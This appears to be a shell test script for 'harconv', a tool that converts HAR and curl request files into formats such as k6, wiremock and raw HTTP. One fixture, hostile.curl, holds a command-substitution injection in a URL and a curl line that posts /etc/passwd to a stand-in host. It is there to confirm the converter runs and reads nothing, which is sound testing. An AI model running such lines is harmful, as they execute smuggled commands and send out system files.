# Command lines, files of requests, scripts and stubs.
harconv "$SAMPLES/requests.curl" --to http-file 2>/dev/null
harconv "$SAMPLES/requests.http" --to curl 2>/dev/null
harconv "$SAMPLES/requests.http" --to fetch 2>/dev/null
harconv "$SAMPLES/requests.http" --to python 2>/dev/null
harconv "$SAMPLES/requests.http" --to k6 2>/dev/null
harconv "$SAMPLES/shop.har" --entry 0 --to http1 2>/dev/null
harconv "$SAMPLES/shop.har" --entry 0 --entry 1 --entry 2 --to hoverfly 2>/dev/null
harconv "$SAMPLES/shop.har" --entry 0 --entry 1 --entry 2 --to wiremock 2>/dev/null
harconv "$SAMPLES/shop.har" --entry 6 --to k6 2>/dev/null | sed 1,/default/d
# What is lost is said.
harconv "$SAMPLES/shop.har" --entry 0 --to curl
# Nothing is run, and files are not read.
cat >hostile.curl <<'END'
curl "http://h.example/$(touch x)"
curl http://h.example/ -d @/etc/passwd
curl http://h.example/ --frob
curl http://h.example/good
curl 'http://h.example/
END
harconv hostile.curl --to harl --no-provenance
echo "exit $?"
ls
# By content, through a pipe; empty and cut inputs.
harconv - --count <"$SAMPLES/requests.http"
printf 'HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc' | harconv - --to raw
echo
for format in curl http-file http1; do
  harconv --from $format - </dev/null
  echo "exit $?"
done
harconv "$SAMPLES/shop.har" --from curl --count 2>&1 | head -3
harconv "$SAMPLES/shop.har" --to curl 2>/dev/null | head -1
harconv "$SAMPLES/shop.har" --to wiremock -o /dev/full 2>&1 | grep full
